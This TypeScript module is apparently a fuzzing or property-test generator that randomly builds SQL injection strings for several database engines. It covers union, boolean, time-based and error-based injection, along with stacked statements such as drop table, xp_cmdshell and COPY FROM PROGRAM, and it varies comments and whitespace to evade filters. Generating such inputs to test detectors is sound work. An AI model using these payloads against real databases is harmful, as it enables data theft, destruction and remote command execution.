import type { Choices } from './choices.ts'

// Each part as the grammars of MySQL 8.4, PostgreSQL 17, SQLite 3, SQL Server 2022 and Oracle 23 have it.
const GAPS = [' ', ' ', ' ', '  ', '\t', '\n', '\r\n', '/**/', '/*a*/', '\x0b', '\x0c', ' /* b */ '] as const
const BEFORE = ['', '1', '7', '-1', '0', '42', '1.5', 'admin', 'blue', 'x@example.org', 'a-b', 'Anna'] as const
const FUNCTIONS = [
  'version()',
  'user()',
  'database()',
  '@@version',
  'current_user',
  'sqlite_version()',
  'banner',
] as const
const TABLES = ['users', 'information_schema.tables', 'sys.objects', 'pg_user', 'sqlite_master', 'dual', 'a.b'] as const

const gap = (c: Choices): string => c.one(GAPS)
const number = (c: Choices): string => String(c.number(9_999))

function select(c: Choices): string {
  const column = c.one(['password', 'null', '1', 'count(*)', 'group_concat(a)', '@@version', 'version()', 'name'])
  const from = c.chance(3) ? '' : `${gap(c)}from${gap(c)}${c.one(TABLES)}`
  const where = from === '' || c.chance(2) ? '' : `${gap(c)}where${gap(c)}a=${number(c)}`
  return `select${gap(c)}${column}${from}${where}`
}

/** A comparison that is true or false for all rows, or tells a part of an answer. */
function condition(c: Choices, quote: string): string {
  const n = number(c)
  const text = quote === '' ? n : `${quote}a${quote}`
  return c.one([
    () => `${n}=${n}`,
    () => `${n}${gap(c)}=${gap(c)}${n}`,
    () => `${n}>${c.number(9)}`,
    () => `${n}<>${n}1`,
    () => `not${gap(c)}${n}=${n}1`,
    () => `${text}=${text}`,
    () => `${text}${gap(c)}like${gap(c)}${text}`,
    () => `${n}${gap(c)}between${gap(c)}1${gap(c)}and${gap(c)}9999`,
    () => `${n}${gap(c)}in${gap(c)}(${n},1)`,
    () => `(${select(c)})>0`,
    () => `exists(${select(c)})`,
    () => `ascii(substr((${select(c)}),1,1))>${n}`,
    () => `length(${c.one(FUNCTIONS)})=${n}`,
    () => `substring(${c.one(FUNCTIONS)},1,1)=char(53)`,
    () => wait(c),
    () => error(c),
  ])()
}

function wait(c: Choices): string {
  return c.one([
    'sleep(5)',
    'benchmark(5000000,md5(1))',
    '5=(select 5 from pg_sleep(5))',
    'pg_sleep(5) is null',
    "1=dbms_pipe.receive_message('a',5)",
    "1=like('abc',upper(hex(randomblob(500000000/2))))",
    '(select sleep(5))=0',
  ])
}

function error(c: Choices): string {
  return c.one([
    'extractvalue(1,concat(0x7e,version()))',
    'updatexml(1,concat(0x7e,(select user())),1)',
    '1=convert(int,@@version)',
    '1=cast((select password from users limit 1) as int)',
    '1=ctxsys.drithsx.sn(1,(select user from dual))',
    'row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from a group by x)',
    'exp(~(select*from(select user())a))',
  ])
}

function statement(c: Choices): string {
  return c.one([
    'drop table users',
    "update users set password='x'",
    "insert into users values(1,'a')",
    'delete from users where 1=1',
    "exec xp_cmdshell 'dir'",
    "exec master..xp_cmdshell 'dir'",
    "waitfor delay '0:0:5'",
    'select pg_sleep(5)',
    'select sleep(5)',
    'shutdown',
    'declare @a varchar(99)',
    "copy a from program 'id'",
    'create table a(b int)',
    'truncate table a',
    'grant all on a to b',
    'alter user a identified by b',
  ])
}

function union(c: Choices): string {
  const all = c.one(['', `${gap(c)}all`, `${gap(c)}distinct`])
  const columns = Array.from({ length: 1 + c.number(6) }, () =>
    c.one(['null', 'null', number(c), 'user()', '@@version', 'char(97)', '0x61', 'concat(0x3a,user())']),
  )
  const from = c.chance(2) ? '' : `${gap(c)}from${gap(c)}${c.one(TABLES)}`
  return `union${all}${gap(c)}select${gap(c)}${columns.join(',')}${from}`
}

/** What follows the quote and the parentheses that the value has ended. */
function technique(c: Choices, quote: string): { text: string; whole: boolean } {
  const junction = c.one(['or', 'and', 'or', 'and', '||', '&&'])
  switch (c.number(6)) {
    case 0:
    case 1:
      return { text: `${gap(c)}${junction}${gap(c)}${condition(c, quote)}`, whole: false }
    case 2:
      return { text: `${gap(c)}${union(c)}`, whole: true }
    case 3:
      return { text: `;${gap(c)}${statement(c)}`, whole: true }
    case 4:
      return { text: `${gap(c)}${junction}${gap(c)}${c.chance(2) ? wait(c) : error(c)}`, whole: false }
    default:
      return { text: `${gap(c)}order${gap(c)}by${gap(c)}${1 + c.number(40)}`, whole: true }
  }
}

/** SQL that leaves a literal in single or double quotes or stands for a number, in parentheses, to its end or to a comment's beginning. */
export function sqlAttack(c: Choices): string {
  const quote = c.one(['', "'", "'", '"'])
  const before = quote === '' ? c.one(['1', '7', '-1', '0', '42', '1.5']) : c.one(BEFORE)
  const closing = c.chance(3) ? ')'.repeat(1 + c.number(2)) : ''
  const { text, whole } = technique(c, quote)
  const open = '('.repeat(closing.length)
  const balanced =
    quote === '' ? `${gap(c)}and${gap(c)}${open}1=1` : `${gap(c)}and${gap(c)}${open}${quote}a${quote}=${quote}a`
  const tail = whole || c.chance(2) ? c.one(['--', '-- ', '-- -', '#', '/*', '--+', ';--', '-- x', ';#']) : balanced
  return c.cased(`${before}${quote}${closing}${text}${tail}`)
}
